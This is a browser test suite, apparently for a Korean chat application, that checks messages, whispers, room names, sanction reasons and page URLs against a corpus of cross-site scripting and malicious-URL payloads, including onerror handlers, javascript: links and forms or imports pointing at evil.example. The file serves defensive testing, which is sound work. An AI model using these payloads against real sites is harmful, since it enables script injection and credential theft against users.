import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { BrowserRoom } from './support/browser-room.js';
import { ADMIN } from './support/place.js';
import type { Visitor } from './support/visitor.js';

/** What has run scripts in chats before. Each would call `hit` or ask another host. */
const TEXTS = [
  '<script>hit()</script>',
  '<img src=x onerror=hit()>',
  '"><svg onload=hit()>',
  "'><iframe srcdoc='<script>parent.hit()</script>'></iframe>",
  '<a href="javascript:hit()">click</a>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=password autofocus onfocus=hit()></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hit()>',
  '<details open ontoggle=hit()>',
  '<object data="data:text/html,<script>hit()</script>"></object>',
  '</li></ul><script>hit()</script>',
  '{{constructor.constructor("hit()")()}} ${hit()} #{hit()} <%= hit() %>',
  '$t(brand) {{name}} {{- name}} __proto__',
  '&lt;img src=x onerror=hit()&gt; &#60;script&#62;hit()&#60;/script&#62;',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
  '\u202e<gnp.>)(tih=rorreno x=crs gmi<',
  '@민수<img src=x onerror=hit()> @<b>x</b>',
];
const URLS = [
  'javascript:hit()',
  'JaVaScRiPt:hit()',
  'java\tscript:hit()',
  'vbscript:hit()',
  'data:text/html,<script>hit()</script>',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'https://evil.example/"onmouseover="hit()',
  "https://evil.example/'onfocus='hit()'autofocus='",
  'https://evil.example/<script>hit()</script>',
  'https://user:password@evil.example/',
  'https://xn--80ak6aa92e.com/',
  'http://evil.example\\@good.example/',
  'see //evil.example/x.js',
];
/** Elements that would have come from a text, since the page itself makes none of them in its list. */
const FOREIGN =
  'script, img, iframe, svg:not(.stream-action > *, .icon), style, base, meta, form, input, object, embed, math, details, video, audio, link, b, table';

let room: BrowserRoom;
beforeAll(async () => {
  room = await BrowserRoom.open({
    members: ['민수', '해커'],
    settings: { ROOM_NAME: '<img src=x onerror=hit()>' },
  });
});
afterAll(() => room.close());
afterEach(() => room.clear());

/** What of the corpus came to life. Empty is good. */
async function alive({ page, log }: Visitor): Promise<string[]> {
  const foreign = page.locator('body').locator('script, iframe, object, embed, base, img');
  const found = [log.locator(FOREIGN), foreign].map(locator =>
    locator.evaluateAll(all => all.map(one => one.outerHTML)),
  );
  const handlers = page
    .locator('*')
    .evaluateAll(all => all.flatMap(one => one.getAttributeNames()).filter(name => name.startsWith('on')));
  const hits = await page.evaluate(() => (globalThis as { hits?: number }).hits);
  return [...(await Promise.all([...found, handlers])).flat(), ...(hits === 0 ? [] : [`${hits} hits`])];
}

function countHits(): void {
  Object.assign(globalThis, { hits: 0, hit: () => (globalThis as { hits?: number }).hits!++ });
}

describe('what is said', () => {
  it.each([
    ['texts', TEXTS],
    ['addresses', URLS],
  ])('stays text: %s', async (_, corpus) => {
    const [minsu, hacker] = [await room.enter('민수', { script: countHits }), await room.client('해커')];
    for (const text of corpus) {
      await hacker.say(text);
      await hacker.whisper('민수', text);
    }
    await hacker.say('이상입니다');
    await minsu.sees('이상입니다');
    const lines = await minsu.lines();
    for (const text of corpus) expect(lines.filter(line => line === text)).toHaveLength(2);
    expect(await alive(minsu)).toEqual([]);
    // neither by a pointer that passes nor by focus
    for (const row of await minsu.log.locator('.stream-row').all()) await row.hover();
    expect(await alive(minsu)).toEqual([]);
  });

  it('becomes a link only to http and https, which does not tell where it was clicked', async () => {
    const [minsu, hacker] = [await room.enter('민수', { script: countHits }), await room.client('해커')];
    for (const text of [...URLS, 'https://good.example/path?q=1']) await hacker.say(text);
    await hacker.say('주소는 이상입니다');
    await minsu.sees('주소는 이상입니다');
    const links = await minsu.log.locator('a[href]').evaluateAll(all =>
      all
        .map(one => one as HTMLAnchorElement)
        .filter(one => one.origin !== location.origin)
        .map(({ protocol, rel, target, href }) => ({ protocol, rel, target, href })),
    );
    expect(links.map(({ href }) => href)).toContain('https://good.example/path?q=1');
    for (const { protocol, rel } of links) {
      expect(['http:', 'https:']).toContain(protocol);
      for (const word of ['noopener', 'noreferrer', 'nofollow', 'ugc'])
        expect(rel.split(' ')).toContain(word);
    }
    expect(await alive(minsu)).toEqual([]);
  });
});

describe('what stands for a name', () => {
  it('stays text: an unknown target, an unknown command, the name of the room', async () => {
    const minsu = await room.enter('민수', { script: countHits });
    for (const text of TEXTS.slice(0, 6)) {
      await minsu.say(`/w ${text.replaceAll(' ', '')} hello`);
      await minsu.box.fill('');
      await minsu.say(`/${text}`);
      await minsu.box.fill('');
    }
    await minsu.say('이름은 이상입니다');
    await minsu.sees('이름은 이상입니다');
    await expect
      .poll(async () => minsu.page.locator('header').innerText())
      .toContain('<img src=x onerror=hit()>');
    expect(await minsu.page.locator('header img').count()).toBe(0);
    expect(await alive(minsu)).toEqual([]);
  });
});

describe('the reason of a sanction', () => {
  it('stays text in the room, for its target, in the card and on the log-in page', async () => {
    const admin = await room.enter(ADMIN, { script: countHits });
    const target = await room.enter('민수', { script: countHits });
    const reason = '"><img src=x onerror=hit()><script>hit()</script>';
    await room.place.call('POST', 'admin/members/민수/mute', ADMIN, { duration: '1h', reason });
    for (const visitor of [admin, target]) {
      await visitor.sees(reason);
      await visitor.page.locator('body').getByText('onerror').first().waitFor();
      expect(await alive(visitor)).toEqual([]);
    }
    await room.place.call('POST', 'admin/members/민수/unmute', ADMIN, { reason });
    await room.place.call('POST', 'admin/members/민수/kick', ADMIN, { coolOff: '0s', reason });
    await target.page.locator('.login-note').getByText('onerror').first().waitFor();
    const atTheDoor = target.page.locator('body').locator('script, iframe, img');
    expect(await atTheDoor.count()).toBe(0);
    expect(await target.page.evaluate(() => (globalThis as { hits?: number }).hits)).toBe(0);
    await room.place.login('민수', { again: true });
  });
});

describe('the address of the page', () => {
  it.each([
    '#m<img src=x onerror=hit()>',
    '#m1"><script>hit()</script>',
    '?from=<script>hit()</script>#m99999999',
  ])('is looked at and no more: %s', async tail => {
    const minsu = await room.enter('민수', { script: countHits });
    await minsu.page.goto(`${room.place.url}/${tail}`);
    if (!tail.startsWith('?')) await minsu.page.reload();
    await minsu.box.waitFor();
    expect(await alive(minsu)).toEqual([]);
  });
});
